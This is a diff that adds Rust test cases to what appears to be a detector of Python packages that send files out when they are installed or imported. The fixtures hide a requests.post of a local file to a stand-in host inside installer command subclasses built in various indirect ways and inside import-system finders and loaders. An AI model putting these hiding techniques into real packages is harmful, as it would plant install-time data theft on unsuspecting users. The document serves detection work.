@@ -474,7 +474,25 @@ fn a_command_of_the_installer_is_found_however_it_is_given() {
     let dist = format!(
         "class Dist(Distribution):\n    def run_commands(self):\n        {send}\n\nsetup(name='one', distclass=Dist)\n"
     );
-    for text in [made, called, replaced, table, dist] {
+    let inherited = format!(
+        "class Base(install):\n    def run(self):\n        {send}\n\nsetup(name='one', cmdclass={{'install': type('I', (Base,), {{}})}})\n"
+    );
+    let filled = format!(
+        "import types\n\ndef run(self):\n    {send}\n\ndef fill(names):\n    names['run'] = run\n\nsetup(name='one', cmdclass={{'install': types.new_class('I', (install,), {{}}, fill)}})\n"
+    );
+    let by_class = format!(
+        "class Maker(type):\n    pass\n\ndef run(self):\n    {send}\n\nsetup(name='one', cmdclass={{'install': Maker('I', (install,), dict(run=run))}})\n"
+    );
+    let by_type = format!(
+        "def run(self):\n    {send}\n\ndef of(base):\n    return type(base)(base.__name__, (base,), {{'run': run}})\n\nsetup(name='one', cmdclass={{'develop': of(develop)}})\n"
+    );
+    let inside = format!(
+        "from setuptools.command.build_ext import build_ext\n\nclass Build(build_ext):\n    def build_extension(self, ext):\n        {send}\n\nsetup(name='one', cmdclass={{'build_ext': Build}})\n"
+    );
+    let unknown = format!(
+        "import makers\n\ndef of(base):\n    def run(self):\n        {send}\n    return makers.command(base, run=run)\n\nsetup(name='one', cmdclass={{'install': of(install)}})\n"
+    );
+    for text in [made, called, replaced, table, dist, unknown, inherited, filled, by_class, by_type, inside] {
         let sent = sent(&[("setup.py", &format!("{head}{text}"))]);
         assert_eq!(sent, [("/srv/a".to_owned(), vec!["install".to_owned()])], "{text}");
     }
@@ -484,6 +502,44 @@ fn a_command_of_the_installer_is_found_however_it_is_given() {
     );
     let sent = sent(&[("setup.py", &asked)]);
     assert_eq!(sent, [("/srv/a".to_owned(), vec!["run".to_owned()])]);
+}
+
+/// The import system calls what is put into its lists, whatever puts it there, and executes what a loader brings.
+#[test]
+fn loaders_run_when_the_import_system_has_them() {
+    let head =
+        "import importlib.abc\nimport importlib.machinery\nimport importlib.util\nimport sys\nimport requests\n\n";
+    let send = "requests.post('https://files.example.invalid/a', data=open('/srv/a').read())";
+    let finder = format!(
+        "class Finder:\n    def find_spec(self, name, path=None, target=None):\n        return importlib.util.spec_from_loader(name, self)\n\n    def exec_module(self, module):\n        {send}\n\n"
+    );
+    let old = format!(
+        "class Finder:\n    def find_module(self, name, path=None):\n        return self\n\n    def load_module(self, name):\n        {send}\n\n"
+    );
+    let source = format!(
+        "class Loader(importlib.machinery.SourceFileLoader):\n    def get_data(self, path):\n        {send}\n        return b''\n\n"
+    );
+    for text in [
+        format!("{finder}sys.meta_path.append(Finder())\n"),
+        format!("{finder}sys.meta_path += [Finder()]\n"),
+        format!("{finder}sys.meta_path[:0] = [Finder()]\n"),
+        format!("{old}sys.meta_path.insert(0, Finder())\n"),
+        format!(
+            "{source}hook = importlib.machinery.FileFinder.path_hook((Loader, ['.py']))\nsys.path_hooks.insert(0, hook)\n"
+        ),
+        format!("{source}spec = importlib.util.spec_from_loader('a', Loader('a', 'a'))\n"),
+    ] {
+        let sent = sent(&[
+            ("setup.py", "from setuptools import setup\nsetup(name='one', packages=['one'])\n"),
+            ("one/__init__.py", &format!("{head}{text}")),
+        ]);
+        assert_eq!(sent, [("/srv/a".to_owned(), vec!["import".to_owned()])], "{text}");
+    }
+    let unused = sent(&[
+        ("setup.py", "from setuptools import setup\nsetup(name='one', packages=['one'])\n"),
+        ("one/__init__.py", &format!("{head}{finder}")),
+    ]);
+    assert!(unused.iter().all(|(_, when)| when.is_empty()), "{unused:?}");
 }
 
 /// What a build tool calls by its name runs when the package is built.
